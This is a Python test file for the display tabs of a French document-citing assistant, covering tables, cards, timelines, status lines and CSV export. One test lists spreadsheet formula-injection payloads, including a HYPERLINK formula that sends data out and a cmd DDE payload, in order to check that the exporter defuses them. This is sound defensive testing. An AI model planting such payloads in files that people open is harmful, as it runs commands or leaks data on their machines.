"""What the tabs beyond the chat show: exact tables, cards, CSV, timeline, status line."""

from __future__ import annotations

import csv
import io
import re
from types import SimpleNamespace

from assistant.answering import Answer, Citation
from assistant.overview import DayCard, Topic
from assistant.rows import TerritoryRow
from assistant.verification import Verification, verify
from ui.tab_content import (
    DOCUMENT_HEADERS,
    document_table,
    format_status,
    format_timeline,
    format_topics,
    french_datetime,
    knowledge_sentence,
    spreadsheet_cell,
    territory_cards,
    territory_sheet,
    territory_table,
    unanswered_count,
    unanswered_csv,
    unanswered_table,
)
from vectorstore.records import DocumentRecord

CITATION = Citation(
    1, "bilan-exemple.pdf", "8", "3.1 Quelques chiffres", "Le taux de satisfaction est de 92 %.", 0.9, "bilan"
)


def test_the_territory_table_keeps_day_tables_and_skips_head_count_annexes() -> None:
    name = ("Territoire", "Commune de Sauvelière")
    day_row = (name, ("Attentes", "Toucher les jeunes."), ("Suites données", "Budget participatif."))
    rows = [
        TerritoryRow("Commune de Sauvelière", 2, "b.pdf", "4", "2.2", day_row),
        TerritoryRow(
            "Commune de Sauvelière", 2, "b.pdf", "11", "Annexe", (name, ("Personnes présentes", "4"))
        ),
    ]
    assert territory_table(rows) == [
        ["Commune de Sauvelière", "2", "Toucher les jeunes.", "Budget participatif.", "b.pdf, p. 4"]
    ]


def test_a_fiche_lists_the_passages_or_says_there_are_none() -> None:
    sheet = territory_sheet("Commune <b>de</b> Sauvelière", [CITATION])
    assert sheet.startswith("### Fiche territoire : Commune &lt;b&gt;de&lt;/b&gt; Sauvelière\n\n1 passage(s)")
    assert territory_sheet("Nulle-Part", []) == "Aucun passage ne mentionne « Nulle\\-Part »."


def test_the_unanswered_questions_are_counted_and_none_is_said() -> None:
    assert unanswered_count(0) == (
        "Aucune question sans réponse pour l'instant : celles que l'assistant déclinera viendront ici."
    )
    assert unanswered_count(1) == "1 question sans réponse."
    assert unanswered_count(3) == "3 questions sans réponse, les plus récentes en premier."


def test_unanswered_questions_newest_first_and_as_csv() -> None:
    entries = [
        {"at": "2026-11-01T10:00:00+00:00", "question": "Première ?", "filters": {}, "closest": []},
        {"at": "2026-11-02T10:00:00+00:00", "question": "Seconde, avec « guillemets » ?",
         "reason": "Les documents ne donnent pas la date.", "partial": True,
         "filters": {"kind": "bilan", "session": 2}, "closest": [{"source": "b.pdf", "page": "4"}]},
    ]  # fmt: skip
    table = unanswered_table(entries)
    assert table[0] == [
        "2 novembre 2026 à 11 h 00", "Seconde, avec « guillemets » ?",
        "Les documents ne donnent pas la date.", "kind=bilan, session=2", "b.pdf p. 4"
    ]  # fmt: skip
    assert table[1][2] == "Aucun passage ne répond à la question."  # declined (or written before the reason)
    parsed = list(csv.reader(io.StringIO(unanswered_csv(entries)), delimiter=";"))
    assert parsed[0] == ["Date", "Question", "Ce qui manque", "Filtres", "Passages les plus proches"]
    assert parsed[1][0] == "2026-11-02T10:00:00+00:00"  # the file keeps sortable stamps
    assert [row[1] for row in parsed[1:]] == ["Seconde, avec « guillemets » ?", "Première ?"]


def test_no_exported_cell_can_run_as_a_formula() -> None:
    """Issue 18: a declined question such as « =HYPERLINK(…) » opened by a facilitator in a
    spreadsheet ran; every cell starting like a formula is now written as text."""
    attacks = [
        '=HYPERLINK("http://127.0.0.1:9/?d="&A2;"x")',
        "@SUM(1+1)",
        "+cmd|' /C calc'!A0",
        "-2+3",
        "\t=1+1",
        "\r=1+1",
    ]
    at = "2026-11-01T10:00:00+00:00"
    entries = [{"at": at, "question": a, "filters": {"territory": a}, "closest": []} for a in attacks]
    rows = list(csv.reader(io.StringIO(unanswered_csv(entries)), delimiter=";"))[1:]
    assert [row[1] for row in rows] == [f"'{attack}" for attack in reversed(attacks)]
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)
    assert spreadsheet_cell("Une question ?") == "Une question ?"  # others untouched


def test_dates_are_french_local_time() -> None:
    assert french_datetime("2026-07-03T12:05:00+00:00") == "3 juillet 2026 à 14 h 05"  # summer: UTC+2
    assert french_datetime("2026-12-02T04:38:00+00:00") == "2 décembre 2026 à 5 h 38"  # winter: UTC+1
    assert french_datetime("pas une date") == "pas une date"


def test_the_timeline_shows_each_day_with_its_sources() -> None:
    day = DayCard(
        3, "jeudi 21 mai 2026", "Port-Aiglantine", "Coopérer", ("Ville de Port-Aiglantine",), (CITATION,)
    )
    assert format_timeline([day]) == (
        "### Journée 3 — Coopérer\n\njeudi 21 mai 2026 · Port\\-Aiglantine\n\n"
        "Territoires : Ville de Port\\-Aiglantine\n\nSources : [1] `Bilan` bilan\\-exemple.pdf, p. 8"
    )
    assert format_timeline([]) == "Aucune journée n'est décrite dans les documents indexés."


def test_the_header_says_what_the_assistant_knows_in_one_sentence() -> None:
    report, note, other = (
        SimpleNamespace(kind="bilan"),
        SimpleNamespace(kind="notes"),
        SimpleNamespace(kind="x"),
    )
    assert knowledge_sentence([report, *[note] * 4], 4) == (
        "L'assistant connaît le bilan des journées d'initiation et les notes de quatre séances "
        "(quatre journées) ; chaque réponse cite les passages qui l'appuient."
    )
    assert knowledge_sentence([note], 1).startswith(
        "L'assistant connaît les notes d'une séance (une journée)"
    )
    assert "et un autre document ;" in knowledge_sentence([report, other], 0)
    assert knowledge_sentence([], 0).startswith("Aucun document n'est encore indexé")


def test_territories_as_cards_for_a_phone() -> None:
    table = [["Commune de <b>Sauvelière</b>", "2", "Toucher les *jeunes* & les familles.", "", "b.pdf, p. 4"]]
    assert territory_cards(table) == [
        "<strong>Commune de &lt;b&gt;Sauvelière&lt;/b&gt;</strong> · journée 2<br>"
        "Attentes : Toucher les *jeunes* &amp; les familles.<br><em>Source : b.pdf, p. 4</em>"
    ]
    assert territory_cards([]) == []


def test_status_line_says_what_answers_are_made_of_without_jargon() -> None:
    assert format_status([], 0, "m", "extractif (sans modèle de langue)").startswith("Aucun document indexé")
    line = format_status(
        ["bilan-exemple.pdf", "journee-1.md"],
        42,
        "multilingual-e5-small",
        "extractif (sans modèle de langue)",
    )
    assert line == (
        "**2 documents indexés** (42 passages) : bilan\\-exemple.pdf, journee\\-1.md  \n"
        "Réponses : citations des documents (sans modèle de langue)  \n"
        "*Recherche des passages par le sens : modèle multilingual\\-e5\\-small*"
    )
    one = format_status(["bilan-exemple.pdf"], 1, "all-MiniLM-L6-v2", "modèle de langue smollm2")
    assert one.startswith("**1 document indexé** (1 passage) : bilan\\-exemple.pdf  \n")
    assert (
        "Réponses : rédigées par le modèle de langue smollm2, chaque phrase vérifiée dans les documents"
        in one
    )
    for jargon in ("extractif", "embedding", "(s)"):
        assert jargon not in line and jargon not in one, jargon


def record(source: str, kind: str, pages: int, at: str, *warnings: str) -> DocumentRecord:
    ids = tuple(f"{source}-{i}" for i in range(5))
    return DocumentRecord(
        "id-" + source, source, f"/d/{source}", "0" * 64, kind, pages, ids, "", at, warnings
    )


def test_the_documents_table_in_words_a_member_uses() -> None:
    """Issue 28: « Pages 0 » for the notes and ISO dates; now no pages for what has none,
    and the date in French, Paris time."""
    records = [
        record("bilan-exemple.pdf", "bilan", 12, "2026-12-04T22:09:12+00:00",
               "page 10 : aucune couche texte (page scannée ou image ?)"),
        record("journee-1.md", "notes", 0, "2026-07-03T12:05:00+00:00"),
        record("ancien.txt", "autre", 0, ""),  # stored before dates were
    ]  # fmt: skip
    assert DOCUMENT_HEADERS == [
        "Document", "Type", "Pages", "Passages", "Lignes de tableau", "Avertissements", "Indexé le"
    ]  # fmt: skip
    assert document_table(records, {"bilan-exemple.pdf": 36}) == [
        ["bilan-exemple.pdf", "Bilan", 12, 5, 36, "page 10 : aucune couche texte (page scannée ou image ?)",
         "4 décembre 2026 à 23 h 09"],
        ["journee-1.md", "Notes de séance", "—", 5, 0, "", "3 juillet 2026 à 14 h 05"],
        ["ancien.txt", "Document", "—", 5, 0, "", ""],
    ]  # fmt: skip


# -- Découvrir: the tour and the glossary, each entry shown once -----------------------------

PART_1 = Citation(
    1, "bilan-exemple.pdf", "2", "1. Les intentions de départ",
    "Ce bilan rend compte d'un cycle de quatre journées (mars à juin). Le cycle visait les élus.",
    1.0, "bilan",
)  # fmt: skip


def tour_card() -> Topic:
    text, check = verify(
        "Ce bilan rend compte d'un cycle de quatre journées (mars à juin). [1] Le cycle visait les élus. [1]",
        {1: PART_1.text},
    )
    return Topic(
        "1. Les intentions de départ",
        Answer("1. Les intentions de départ", text, (PART_1,), verification=check),
    )


def test_a_tour_card_shows_its_text_once_with_a_one_line_source() -> None:
    """Issue 28: each entry showed its text, then a card repeating the same passage."""
    assert format_topics([tour_card()], "vide") == (
        "### 1. Les intentions de départ\n\n"
        "Ce bilan rend compte d'un cycle de quatre journées \\(mars à juin\\). Le cycle visait les élus.\n\n"
        "*Source : bilan\\-exemple.pdf, p. 2 — 1. Les intentions de départ*"
    )
    shown = format_topics([tour_card(), tour_card()], "vide")
    for card_only in (
        "<mark>",
        "carte-",
        'class="renvoi"',
        "<details",
        "**Sources**",
        "source vérifiée",
        "[1]",
    ):
        assert card_only not in shown, card_only  # no card, no marker leading to one, no badge
    assert shown.count("\n\n---\n\n") == 1 and shown.count("### ") == 2
    assert format_topics([], "Le bilan n'est pas indexé.") == "Le bilan n'est pas indexé."


def test_an_entry_citing_two_passages_keeps_its_markers_as_text_and_lists_both() -> None:
    note = Citation(2, "journee-2.md", "", "Déroulé", "Le codéveloppement aide <b>chacun</b>.", 0.5, "notes")
    definition = Citation(
        1, "bilan-exemple.pdf", "3", "2. Le déroulé", "Le codéveloppement est une méthode.", 1.0, "bilan"
    )
    text = "Le codéveloppement est une méthode. [1] Le codéveloppement aide <b>chacun</b>. [2]"
    answer = Answer(
        "Qu'est-ce que le codéveloppement ?",
        text,
        (definition, note),
        verification=Verification((1, 2), 0, ()),
    )
    assert format_topics([Topic("Codéveloppement", answer)], "vide") == (
        "### Codéveloppement\n\n"
        "Le codéveloppement est une méthode. [1] Le codéveloppement aide &lt;b&gt;chacun&lt;/b&gt;. [2]\n\n"
        "*Sources :*  \n[1] bilan\\-exemple.pdf, p. 3 — 2. Le déroulé  \n[2] journee\\-2.md — Déroulé"
    )


def test_an_entry_says_what_its_text_does_not_when_the_verifier_removed_something() -> None:
    gap = "Les documents ne définissent pas le pair-à-pair."
    partial = Answer(
        "Qu'est-ce que le pair-à-pair ?", f"{gap} Voici ce qu'ils en disent : Le cycle visait les élus. [1]",
        (PART_1,), verification=Verification((1,), 0, ()), gap=gap,
    )  # fmt: skip
    shown = format_topics([Topic("Pair-à-pair", partial)], "vide")
    assert shown.startswith(
        "### Pair\\-à\\-pair\n\n**Les documents ne définissent pas le pair\\-à\\-pair.** Voici ce qu'ils en "
        "disent : Le cycle visait les élus.\n\n**◐ Réponse partielle : les documents ne définissent pas le "
    )
    assert shown.endswith("\n\n*Source : bilan\\-exemple.pdf, p. 2 — 1. Les intentions de départ*")
    removed = Answer(
        "Q ?", "Le cycle visait les élus. [1]", (PART_1,), verification=Verification((1,), 1, ())
    )
    assert "**⚠ " in format_topics([Topic("Élus", removed)], "vide")


def test_discover_headings_go_one_level_at_a_time_under_the_tab_s_level_2() -> None:
    """axe « heading-order »: the tab's own headings are level 2 (``ui.tabs``), the day
    cards, tour cards and notions level 3."""
    day = DayCard(1, "", "", "", (), ())
    for shown in (format_timeline([day]), format_topics([tour_card()], "")):
        assert re.findall(r"^#+ ", shown, re.M) == ["### "]
